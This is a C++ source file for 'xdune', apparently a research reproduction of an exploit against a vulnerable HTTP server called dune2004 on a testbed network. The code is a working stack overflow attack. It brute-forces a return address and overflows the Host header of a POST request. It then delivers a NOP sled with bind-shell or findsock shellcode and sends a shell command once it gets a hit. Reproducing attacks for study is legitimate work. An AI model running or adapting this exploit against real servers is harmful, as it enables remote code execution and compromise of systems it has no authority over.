// xdune: the exploit of dune2004. As the paper's Xdune it searches the return address by brute force, one connection a
// try (the server's children crash on the way), and then runs its payload. It speaks with loopback and the testbed's
// network alone.
//
//   xdune --target 10.99.1.2:80 --payload bind|findsock [--seed N] [--command 'id'] [--attempts N]
//
// A line of JSON a try: {"target": …, "port": own port, "opened_ns": …, "outcome": "crash" | "hit" | "refused",
// "address": …, "reply": …}. Exit 0: it hit.
#include <cstdint>
#include <cstring>
#include <random>
#include <string>

#include "net.h"

extern "C" {
extern const char payload_bind[], payload_bind_end[], payload_findsock[], payload_findsock_end[];
}

namespace {

constexpr uint64_t kLowest = 0x7ffffffefff0;   // the search begins somewhere above
constexpr uint64_t kHighest = 0x7fffffffeff0;  // the top of a stack that is not randomised
constexpr uint64_t kStep = 0x800;
constexpr size_t kSled = 6000;
constexpr size_t kFill = 0x110 + 8;  // dune2004's buffer with what stands behind it, and the saved frame pointer
constexpr char kMark[] = "XDUNE";
constexpr char kAnswer[] = "\n";  // the payload waits for one byte after its mark
constexpr int kMarkMs = 30'000;   // a try that misses ends its connection; this is for a machine that is busy

// A text's copy ends at its first NUL: six bytes of the address are written, the two above are zero already.
std::string request(uint64_t address, size_t fill, const std::string& payload) {
  std::string field(fill, 'A');
  for (int i = 0; i < 6; ++i) field += static_cast<char>(address >> (8 * i));
  std::string body(kSled, '\x90');
  body += payload;
  return "POST /dune HTTP/1.0\r\nContent-Length: " + std::to_string(body.size()) + "\r\nHost: " + field + "\r\n\r\n" +
         body;
}

bool usable(uint64_t address) {
  for (int i = 0; i < 6; ++i) {
    const auto byte = static_cast<uint8_t>(address >> (8 * i));
    if (byte == 0 || byte == '\r' || byte == '\n') return false;
  }
  return true;
}

}  // namespace

int main(int argc, char** argv) {
  std::string target, payload_name = "bind", command = "id; echo TAKEN; exit";
  unsigned seed = 1, attempts = 64;
  for (int i = 1; i + 1 < argc; i += 2) {
    const std::string option = argv[i];
    if (option == "--target") target = argv[i + 1];
    if (option == "--payload") payload_name = argv[i + 1];
    if (option == "--command") command = argv[i + 1];
    if (option == "--seed") seed = static_cast<unsigned>(std::atoi(argv[i + 1]));
    if (option == "--attempts") attempts = static_cast<unsigned>(std::atoi(argv[i + 1]));
  }
  const sockaddr_in address = test_address(target);
  const bool bind = payload_name == "bind";
  const std::string payload =
      bind ? std::string(payload_bind, payload_bind_end) : std::string(payload_findsock, payload_findsock_end);
  std::mt19937 random(seed);
  uint64_t guess = kLowest + 0x1000 * (4 + random() % 5) + random() % kStep;
  for (unsigned attempt = 0; attempt < attempts && guess <= kHighest; ++attempt, guess += kStep) {
    while (!usable(guess)) ++guess;
    const long long opened = realtime_ns();
    const int fd = connect_to(address);
    if (fd < 0) {
      std::printf("{\"target\":\"%s\",\"port\":0,\"outcome\":\"refused\"}\n", target.c_str());
      return 1;
    }
    const unsigned port = local_port(fd);
    std::string reply;
    send_all(fd, request(guess, kFill, payload));
    receive_until(fd, reply, kMarkMs, [](const std::string& text) { return text.size() >= std::strlen(kMark); });
    const bool hit = reply.rfind(kMark, 0) == 0;
    if (hit) send_all(fd, kAnswer + (bind ? "" : command + "\n"));
    if (hit) receive_until(fd, reply, bind ? 1000 : 3000, [](const std::string&) { return false; });
    ::close(fd);
    std::printf(
        "{\"target\":\"%s\",\"port\":%u,\"opened_ns\":%lld,\"outcome\":\"%s\",\"address\":\"%#llx\",\"reply\":\"%s\"}"
        "\n",
        target.c_str(), port, opened, hit ? "hit" : "crash", static_cast<unsigned long long>(guess),
        escaped(reply).c_str());
    std::fflush(stdout);
    if (hit) return 0;
  }
  return 1;
}
